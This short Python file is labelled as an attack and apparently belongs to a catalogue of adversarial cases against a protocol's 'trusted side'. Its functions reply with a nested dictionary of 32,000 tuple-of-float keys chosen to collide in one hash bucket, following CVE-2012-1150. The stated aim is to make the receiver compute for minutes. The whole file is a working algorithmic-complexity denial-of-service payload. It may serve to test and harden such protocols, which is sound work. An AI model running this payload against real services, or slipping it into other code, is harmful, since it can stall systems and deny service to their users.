# /// attack
# title = "answers with a dict whose keys all have one hash"
# aim = "to make the trusted side compute for minutes"
# source = "the hash collisions of CVE-2012-1150, with tuples of floats"
# ///
from itertools import islice, product

from wire_helper import reply

POWERS = [2.0 ** (61 * k) for k in range(-16, 16)]
KEYS = list(islice(product(POWERS, POWERS, POWERS), 32000))


def double(x):
    reply({"value": {1: [[{0: list(key)}, 0] for key in KEYS]}})


def total(step, times):
    double(step)


spell = double
